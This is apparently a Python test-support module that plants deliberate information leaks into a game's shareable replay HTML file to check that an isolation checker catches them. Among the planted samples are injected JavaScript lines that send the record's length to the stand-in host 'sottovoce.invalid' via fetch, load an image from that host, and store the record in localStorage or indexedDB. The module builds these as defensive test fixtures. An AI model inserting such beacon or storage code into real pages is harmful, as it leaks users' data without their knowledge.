"""Planted leaks of the file to share: in its content, and in what it does when it is opened.

A leak is caught if the files of two worlds differ by a byte, or if the file keeps or requests what it must not.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from contextlib import AbstractContextManager, nullcontext
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any
from unittest import mock

from shared_file import SharedFile, apart

from sottovoce.cli import source
from sottovoce.domain.safe_text import visible_json
from sottovoce.isolation.cases import batch_of
from sottovoce.isolation.observe import Difference
from sottovoce.isolation.stand_in import STAND_IN
from sottovoce.projections import replay_file as written
from sottovoce.projections.bundle import SCRIPT, STYLE, Bundle
from sottovoce.projections.exports import compact
from sottovoce.projections.perspective import FULL, Perspective
from sottovoce.projections.replay_file import chairs, replay_file
from sottovoce.projections.track import Track, positions
from sottovoce.server import entries
from sottovoce.server.entries import Entries
from sottovoce.server.live import LiveGame

BYTES = "the bytes"


@dataclass(frozen=True)
class FileLeak:
    """A fault while a file of a ruleset's game is written; or in its `script`, by what is put before it.

    `shows` says where it shows.
    """

    shows: str = BYTES
    ruleset: str = "mafia"
    patch: Callable[[], AbstractContextManager[Any]] = nullcontext
    script: str = ""


Writing = Callable[[LiveGame, Perspective, Bundle], str]


def tracks(live: LiveGame, whose: Mapping[str, Perspective], *, audited: bool = False) -> dict[str, Track]:
    """Return the tracks of those viewers."""
    return {
        name: Entries(live.ruleset, chair.seat, auditor=chair.full).track(live, audited=audited)
        for name, chair in whose.items()
    }


def _own(live: LiveGame, whose: Perspective) -> tuple[str, Track]:
    ((name, track),) = tracks(live, chairs(live.state.seats, whose)).items()
    return name, track


def _headed(change: Callable[[LiveGame, Track], dict[str, Any]]) -> Writing:
    """The head of the viewer's track is changed by the whole game."""

    def write(live: LiveGame, whose: Perspective, page: Bundle) -> str:
        name, track = _own(live, whose)
        return replay_file(page, {name: replace(track, head=replace(track.head, **change(live, track)))})

    return write


def _full_head(live: LiveGame, track: Track) -> dict[str, Any]:
    """The head is that of the full record, with the viewer's name."""
    (full,) = tracks(live, {"*": FULL}).values()
    return {name: getattr(full.head, name) for name in ("title", "seq", "over", "seats", "offices", "started")}


def _in_the_know(live: LiveGame, track: Track) -> dict[str, Any]:
    """The list of seats begins with those who were told most in private."""
    told = {
        seat: sum(item.audience.seats is not None and item.audience.includes(seat) for item in live.recorded)
        for seat in track.head.seats
    }
    return {"seats": tuple(sorted(told, key=lambda seat: -told[seat]))}


def _neighbours(live: LiveGame, whose: Perspective, page: Bundle) -> str:
    """Another seat's track follows the viewer's own."""
    name, track = _own(live, whose)
    other = next(seat for seat in live.state.seats if seat != name)
    (beside,) = tracks(live, chairs(live.state.seats, Perspective(other, False))).values()
    return replay_file(page, {name: track, other: beside})


def _told_to_all(live: LiveGame, whose: Perspective, page: Bundle) -> str:
    """The full file without the tracks of others, but with what they were told."""
    name, _ = _own(live, whose)
    every = {name: whose, **chairs(live.state.seats, FULL)}
    stored = json.loads(written.record(tracks(live, every)))
    own = compact({**stored, "tracks": {name: stored["tracks"][name]}, "first": name})
    with mock.patch.object(written, "record", return_value=visible_json(own).replace("<", r"\u003c")):
        return replay_file(page, tracks(live, {name: whose}))


def _numbered(live: LiveGame, whose: Perspective, page: Bundle) -> str:
    """Each entry's number is its position in the log."""
    name, track = _own(live, whose)
    places = positions(live.ruleset, live.recorded, whose.seat)
    placed = written._placed

    def by_the_log(track: Track, told: dict[bytes, int]) -> list[tuple[int, int, int | None]]:
        return [(at, places[seq - 1], None) for at, seq, _ in placed(track, told)]

    with mock.patch.object(written, "_placed", by_the_log):
        return replay_file(page, {name: track})


def _marked_once(live: LiveGame, whose: Perspective, page: Bundle) -> str:
    """Entries have the marks of the full record, where everyone's pieces are made at once."""
    name, track = _own(live, whose)
    (full,) = tracks(live, {"*": FULL}).values()
    places = positions(live.ruleset, live.recorded, whose.seat)
    marks = [json.loads(full.entries[place - 1])["marks"] for place in places]
    told = [
        compact({**json.loads(entry), "marks": those}).encode()
        for entry, those in zip(track.entries, marks, strict=True)
    ]
    return replay_file(page, {name: replace(track, entries=told)})


def _dated(live: LiveGame, whose: Perspective, page: Bundle) -> str:
    """The file contains its date."""
    text = _EXPORTED(live, whose, page)
    return text.replace("<title>", f'<meta name="date" content="{live.recorded[-1].at.isoformat()}">\n<title>', 1)


def _styled(live: LiveGame, whose: Perspective, page: Bundle) -> str:
    """The style ends with a note of how much there was to write."""
    styled = page.files[STYLE] + b"/* of %d */" % live.length
    return _EXPORTED(live, whose, replace(page, files={**page.files, STYLE: styled}))


def _everything(live: Any, seat: str | None, auditor: bool) -> Perspective:
    """A viewer without a seat gets everything before the end."""
    return _PERSPECTIVE(live, seat, auditor or seat is None)


_EXPORTED, _PERSPECTIVE = entries.exported, source.perspective


def _writing(write: Writing) -> Callable[[], AbstractContextManager[Any]]:
    return lambda: mock.patch.object(entries, "exported", write)


def _put(owner: Any, name: str, value: Any) -> Callable[[], AbstractContextManager[Any]]:
    return lambda: mock.patch.object(owner, name, value)


_RECORD = "document.getElementById('record').textContent"
_READ = f"addEventListener('DOMContentLoaded', () => {{ const all = {_RECORD}; KEEP; }});"

WRITTEN: Mapping[str, tuple[str, Writing]] = {
    "file_with_the_head_of_the_full_record": ("mafia", _headed(_full_head)),
    "file_with_the_length_of_the_log": ("tabletop", _headed(lambda live, _: {"seq": live.length})),
    "file_begun_with_the_log": ("delegation", _headed(lambda live, _: {"started": str(live.recorded[-1].at)})),
    "file_titled_by_the_length_of_the_log": (
        "delegation",
        _headed(lambda live, track: {"title": f"{track.head.title} {live.length}"}),
    ),
    "file_with_those_in_the_know_first": ("mafia", _headed(_in_the_know)),
    "file_with_the_track_of_a_neighbour": ("tabletop", _neighbours),
    "file_with_what_others_were_told": ("mafia", _told_to_all),
    "file_with_what_other_tasks_were_told": ("delegation", _told_to_all),
    "file_numbered_by_the_log": ("tabletop", _numbered),
    "file_with_the_marks_of_the_full_record": ("mafia", _marked_once),
    "file_dated_by_the_log": ("mafia", _dated),
    "file_styled_by_the_length_of_the_log": ("delegation", _styled),
}
"""Wrong files, by what is wrong: the ruleset, and how they are written."""

DONE: Mapping[str, tuple[str, str]] = {
    "file_that_keeps_its_record": ("local", "localStorage.setItem('record', all)"),
    "file_that_keeps_a_database": ("databases", "indexedDB.open('record')"),
    "file_that_calls_home": ("the policy forbids", "fetch('https://sottovoce.invalid/?' + all.length).catch(() => {})"),
    "file_that_shows_a_picture_from_afar": (
        "the policy forbids",
        "new Image().src = 'https://sottovoce.invalid/p.png'",
    ),
}
"""What a file does when it is opened, and where it shows."""


def file_leaks() -> dict[str, FileLeak]:
    """Return every planted leak of this module by name."""
    return {
        **{name: FileLeak(ruleset=ruleset, patch=_writing(write)) for name, (ruleset, write) in WRITTEN.items()},
        "file_with_the_game_s_id": FileLeak(patch=_put(written, "replace", lambda head, **_: head)),
        "file_of_everything_before_the_end": FileLeak(patch=_put(source, "perspective", _everything)),
        **{name: FileLeak(shows, script=_READ.replace("KEEP", does)) for name, (shows, does) in DONE.items()},
    }


def spoilt(page: Bundle, script: str) -> Bundle:
    """Return the page with something before its own script."""
    return replace(page, files={**page.files, SCRIPT: script.encode() + b"\n" + page.files[SCRIPT]})


def looked_for_on_disk(name: str, folder: Path) -> tuple[int, Difference | None]:
    """How many pairs of files an ordinary run compared until it found the leak, and what it found."""
    leak, number = file_leaks()[name], 0
    file = SharedFile(folder, STAND_IN, leak.patch)
    for number, case in enumerate(batch_of(leak.ruleset, 1, 0), 1):
        if (found := apart(*file.both(case))) is not None:
            return number, Difference(f"shared file, game {case.game}, seat {case.seat} ({case.how})", found)
    return number, None
